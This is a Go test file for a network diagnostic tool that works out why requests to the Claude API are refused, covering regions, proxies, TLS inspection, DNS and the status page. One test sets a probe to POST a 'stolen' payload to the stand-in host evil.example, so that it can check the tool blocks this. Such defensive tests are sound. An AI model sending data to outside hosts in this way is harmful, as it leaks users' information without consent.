package probe_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"why403/flow"
	"why403/flow/lab"
	"why403/flow/must"
	"why403/flow/probe"

	"why403/content"
)

// played starts the scenario of the lab and returns it with a prober that has no key.
func played(t *testing.T, id string, change func(*probe.Setup, *lab.Lab)) (*lab.Lab, *probe.Prober) {
	t.Helper()
	all := must.Have(t, content.Scenarios)
	for _, s := range all {
		if s.ID != id {
			continue
		}
		l, err := lab.Listen(s, 0)
		must.NoError(t, err)
		t.Cleanup(l.Close)
		set := probe.Setup{Trust: probe.Own, BaseURL: l.URL(), Knowledge: content.Way()}
		if change != nil {
			change(&set, l)
		}
		return l, prober(t, set)
	}
	t.Fatalf("there is no scenario %s", id)
	return nil, nil
}

func elsewhere(s *probe.Setup, l *lab.Lab) { s.Via = l.Elsewhere() }

// What the way shows in the scenarios of the lab, without any key.
func TestWay(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, scenario, probe string
		fault                 lab.Fault
		change                func(*probe.Setup, *lab.Lab)
		facts                 string // As told.
		broke                 flow.Break
		says                  string
	}{
		{name: "the API asks for a key", scenario: "model-access", probe: "knock", facts: "way-open=yes", says: "asks for a key"},
		{name: "the edge refuses", scenario: "unsupported-region", probe: "knock", facts: "keyless-refused=yes edge-shaped=yes forbidden-text=yes", broke: flow.Break{Layer: flow.LayerEdge, Class: flow.ClassEdge}, says: "even without a key"},
		{name: "the edge names its data center", scenario: "unsupported-region-colo", probe: "knock", facts: "keyless-refused=yes colo-outside-region=yes", broke: flow.Break{Layer: flow.LayerEdge, Class: flow.ClassRegion}, says: "even without a key"},
		{name: "two routes differ", scenario: "unsupported-region", probe: "knock", change: elsewhere, facts: "open-elsewhere=yes keyless-refused=yes", broke: flow.Break{Layer: flow.LayerEdge, Class: flow.ClassEdge}, says: "Another route reaches the API"},
		{name: "two routes agree", scenario: "model-access", probe: "knock", change: elsewhere, facts: "way-open=yes", says: "asks for a key"},
		{name: "a proxy product refuses", scenario: "corporate-proxy", probe: "knock", facts: "keyless-refused=yes proxy-product=yes", broke: flow.Break{Layer: flow.LayerProxy, Class: flow.ClassProxy}, says: "even without a key"},
		{name: "a captive portal", scenario: "model-access", probe: "knock", fault: lab.Portal, broke: flow.Break{Layer: flow.LayerEdge, Class: flow.ClassEdge}, says: "sign-in"},
		{name: "a captive portal before the edge", scenario: "model-access", probe: "trace", fault: lab.Portal, broke: flow.Break{Layer: flow.LayerEdge, Class: flow.ClassEdge}, says: "sign-in"},
		{name: "a rate limit", scenario: "model-access", probe: "knock", fault: lab.TooMany, broke: flow.Break{Layer: flow.LayerAPI, Class: flow.ClassLimit}, says: "429"},
		{name: "a reset", scenario: "model-access", probe: "knock", fault: lab.Reset, broke: flow.Break{Layer: flow.LayerEdge, Class: flow.ClassOther}, says: "reset"},
		{name: "a foreign certificate", scenario: "model-access", probe: "knock", fault: lab.BadCertificate, broke: flow.Break{Layer: flow.LayerTLS, Class: flow.ClassTLS}, says: "authority"},
		{name: "a foreign certificate, looked at", scenario: "model-access", probe: "tls", fault: lab.BadCertificate, broke: flow.Break{Layer: flow.LayerTLS, Class: flow.ClassTLS}, says: "O=Nobody"},
		{name: "no certificate", scenario: "model-access", probe: "tls", says: "plain http"},
		{name: "a supported country", scenario: "model-access", probe: "trace", facts: "supported-region=yes", says: "country DE, data center FRA"},
		{name: "another country", scenario: "unsupported-region", probe: "trace", facts: "supported-region=no", broke: flow.Break{Layer: flow.LayerEdge, Class: flow.ClassRegion}, says: "country HK"},
		{name: "another country by the usual route only", scenario: "unsupported-region", probe: "trace", change: elsewhere, facts: "supported-region=no", broke: flow.Break{Layer: flow.LayerEdge, Class: flow.ClassRegion}, says: "from a supported country"},
		{name: "no trouble", scenario: "model-access", probe: "status", says: "no trouble"},
		{name: "an address has no name", scenario: "model-access", probe: "resolve", says: "no name"},
		{name: "faked names", scenario: "model-access", probe: "resolve", change: resolving("198.18.0.23"), facts: "tunnel-names=yes", says: "198.18.0.23"},
		{name: "a faked name among others", scenario: "model-access", probe: "resolve", change: resolving("160.79.104.10", "198.19.255.1"), facts: "tunnel-names=yes", says: "198.19.255.1"},
		{name: "addresses beside the faked ones", scenario: "model-access", probe: "resolve", change: resolving("198.17.255.255", "198.20.0.1"), says: "public addresses"},
		{name: "a private address", scenario: "model-access", probe: "resolve", change: resolving("10.1.2.3"), says: "private network"},
		{name: "no such name", scenario: "model-access", probe: "resolve", change: resolving(), broke: flow.Break{Layer: flow.LayerDNS, Class: flow.ClassDNS}, says: "localhost"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			l, p := played(t, tt.scenario, func(s *probe.Setup, l *lab.Lab) {
				l.Fault(tt.fault)
				s.BaseURL = l.URL()
				if tt.change != nil {
					tt.change(s, l)
				}
			})
			got := p.Run(t.Context(), []string{tt.probe}, nil, nil)[0]
			facts := told(got)
			for _, f := range strings.Fields(tt.facts) {
				if !slices.Contains(facts, f) {
					t.Errorf("%s is missing in %v", f, facts)
				}
			}
			if tt.facts == "" && len(facts) > 0 {
				t.Errorf("it asserts %v", facts)
			}
			if got.Broke != tt.broke || !strings.Contains(got.Means, tt.says) {
				t.Errorf("broke at %+v: %s", got.Broke, got.Means)
			}
			for _, r := range l.Requests() {
				if r.Key != "" {
					t.Errorf("a key was sent: %+v", r)
				}
			}
		})
	}
}

// resolving has the name of the base URL resolve to the addresses, or to none.
func resolving(addresses ...string) func(*probe.Setup, *lab.Lab) {
	return func(s *probe.Setup, l *lab.Lab) {
		s.BaseURL = strings.Replace(l.URL(), "127.0.0.1", "localhost", 1)
		s.Resolve = func(context.Context, string) ([]netip.Addr, error) {
			var out []netip.Addr
			for _, a := range addresses {
				out = append(out, netip.MustParseAddr(a))
			}
			if out == nil {
				return nil, &net.DNSError{Err: "no such host", Name: "localhost", IsNotFound: true}
			}
			return out, nil
		}
	}
}

// The status page in trouble, with trouble of something else, and what is no status page.
func TestStatus(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, body, facts, says string }{
		{"an incident", `{"status":{"indicator":"major"},"incidents":[{"name":"Elevated errors","components":[{"name":"Claude API (api.anthropic.com)"}]}]}`, "status-incident=yes", "Elevated errors"},
		{"a component", `{"status":{"indicator":"minor"},"components":[{"name":"Claude API (api.anthropic.com)","status":"degraded_performance"}]}`, "status-incident=yes", "degraded_performance"},
		{"of something else", `{"status":{"indicator":"minor"},"components":[{"name":"claude.ai","status":"major_outage"}],"incidents":[{"name":"Slow chats"}]}`, "", "not of the API: Slow chats"},
		{"quiet", `{"status":{"indicator":"none","description":"All Systems Operational"}}`, "", "no trouble"},
		{"no status page", `{"hello":"world"}`, "", "not whole JSON"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			base := serve(t, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				_, _ = w.Write([]byte(tt.body))
			})
			got := prober(t, setup(t, base)).Run(t.Context(), []string{"status"}, nil, nil)[0]
			if facts := strings.Join(told(got), " "); facts != tt.facts || !strings.Contains(got.Means, tt.says) {
				t.Errorf("%q, %s", facts, got.Means)
			}
		})
	}
}

// A company's proxy that opens TLS is named by its certificate, also where this machine trusts it; nothing is sent over the
// connection.
func TestSigner(t *testing.T) {
	t.Parallel()
	sent := false
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { sent = true }))
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.StartTLS()
	t.Cleanup(srv.Close)
	roots := x509.NewCertPool()
	roots.AddCert(srv.Certificate())
	for _, tt := range []struct {
		name  string
		roots *x509.CertPool
		knows flow.WayKnowledge
		facts []string
		says  string
	}{
		{"an inspector", roots, flow.WayKnowledge{Inspectors: []flow.Signer{{Name: "Filter Ltd", Pattern: "acme co"}}}, []string{"via-company-proxy=yes"}, "Filter Ltd, signed by O=Acme Co"},
		{"a public authority", roots, flow.WayKnowledge{Authorities: []flow.Signer{{Name: "Acme", Pattern: "acme co"}}}, nil, "A public authority"},
		{"nobody we know", roots, flow.WayKnowledge{}, nil, "none of the public authorities"},
		{"nobody this machine trusts", x509.NewCertPool(), flow.WayKnowledge{Authorities: []flow.Signer{{Name: "Acme", Pattern: "acme co"}}}, nil, "does not trust"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := setup(t, srv.URL)
			s.Roots, s.Knowledge = tt.roots, tt.knows
			got := prober(t, s).Run(t.Context(), []string{"tls"}, nil, nil)[0]
			if !slices.Equal(told(got), tt.facts) || !strings.Contains(got.Means, tt.says) || !strings.Contains(got.Means, tls.VersionName(tls.VersionTLS13)) {
				t.Errorf("%v, %s", told(got), got.Means)
			}
		})
	}
	if sent {
		t.Error("a request was sent")
	}
}

// Each route is taken as it is named: a dead proxy stays one, although the direct way works.
func TestEachRoute(t *testing.T) {
	t.Parallel()
	s := setup(t, "")
	s.Key, s.Via, s.System = probe.Credential{}, "http://127.0.0.1:9", func() string { return "http://system.example:3128" }
	env := map[string]string{"HTTPS_PROXY": "http://user:secret@env.example:3128", "NO_PROXY": "api.anthropic.com"}
	s.Proxies = probe.ProxiesFrom(func(name string) string { return env[name] })
	if got, want := cardOf(t, prober(t, s), "knock", nil).Route,
		"directly (NO_PROXY); through http://…@env.example:3128 (HTTPS_PROXY, which NO_PROXY passes by); through http://system.example:3128 (the system's settings); through http://127.0.0.1:9 (the other route)"; got != want {
		t.Errorf("the routes are\n%s\nnot\n%s", got, want)
	}
	delete(env, "NO_PROXY")
	s.Proxies = probe.ProxiesFrom(func(name string) string { return env[name] })
	if got := cardOf(t, prober(t, s), "knock", nil).Route; !strings.HasPrefix(got, "through http://…@env.example:3128 (HTTPS_PROXY); directly; ") {
		t.Errorf("the routes are %s", got)
	}

	_, p := played(t, "model-access", func(s *probe.Setup, _ *lab.Lab) { s.Via = "http://127.0.0.1:9" })
	got := p.Run(t.Context(), []string{"knock"}, nil, nil)[0]
	if len(got.Ways) != 2 || got.Ways[1].Broke != (flow.Break{Layer: flow.LayerProxy, Class: flow.ClassProxy}) || got.Ways[1].Status != 0 || got.Ways[0].Status != http.StatusUnauthorized {
		t.Errorf("%+v", got.Ways)
	}
}

// What the failing call tells stays: a call that got to the API takes another way than the one that is refused here.
func TestKnockBesideTheFailingCall(t *testing.T) {
	t.Parallel()
	_, p := played(t, "unsupported-region", elsewhere)
	got := p.Run(t.Context(), []string{"knock"}, []flow.Fact{{ID: "edge-shaped", Value: flow.No}}, nil)[0]
	for _, f := range told(got) {
		if strings.HasPrefix(f, "keyless-refused") || strings.HasPrefix(f, "open-elsewhere") || strings.HasPrefix(f, "edge-shaped") {
			t.Errorf("it asserts %s: %s", f, got.Means)
		}
	}
}

// A playbook of somebody else's sends nothing to a host that nobody agreed to, and no credential to another service at all.
func TestAnotherService(t *testing.T) {
	t.Parallel()
	pb := *book(t).Playbook
	pb.Probes = slices.Clone(pb.Probes)
	i := slices.IndexFunc(pb.Probes, func(p flow.Probe) bool { return p.ID == "status" })
	pb.Probes[i].At = "https://evil.example"
	pb.Probes[i].Body = `{"stolen":"{request}"}`
	pb.Probes[i].Method = http.MethodPost
	s := setup(t, "")
	s.Trust = probe.Trusted
	card := cardOf(t, probe.New(&pb, nil, s), "status", nil)
	if !slices.ContainsFunc(card.Missing, func(m string) bool { return strings.Contains(m, "none of the playbook's hosts") }) {
		t.Errorf("it can be sent: %+v", card)
	}
	s.Trust = probe.Own
	if r := cardOf(t, probe.New(&pb, nil, s), "status", nil).Request; r.Body != "" || strings.Contains(fmt.Sprint(r), myModel) || !strings.HasPrefix(r.URL, "https://evil.example/") {
		t.Errorf("it sends %+v", r)
	}
	pb.Probes[i].Credential = flow.FailingKey
	if card := cardOf(t, probe.New(&pb, nil, s), "status", nil); len(card.Missing) == 0 {
		t.Errorf("a key goes there: %+v", card)
	}
}

// All of the way together is bounded by the deadline of each probe.
func TestWayEnds(t *testing.T) {
	t.Parallel()
	l, _ := played(t, "model-access", nil)
	l.Fault(lab.StallAccept)
	p := probe.New(hurried(t, 300*time.Millisecond), nil, probe.Setup{Trust: probe.Own, BaseURL: l.URL(), Via: l.Elsewhere()})
	start := time.Now()
	for _, r := range p.Run(t.Context(), []string{"knock", "trace", "tls", "resolve", "status"}, nil, nil) {
		if r.Tells {
			t.Errorf("%s tells %s", r.Probe, r.Means)
		}
		if _, err := json.Marshal(r); err != nil {
			t.Error(err)
		}
	}
	if took := time.Since(start); took > 10*time.Second {
		t.Errorf("it took %s", took)
	}
}
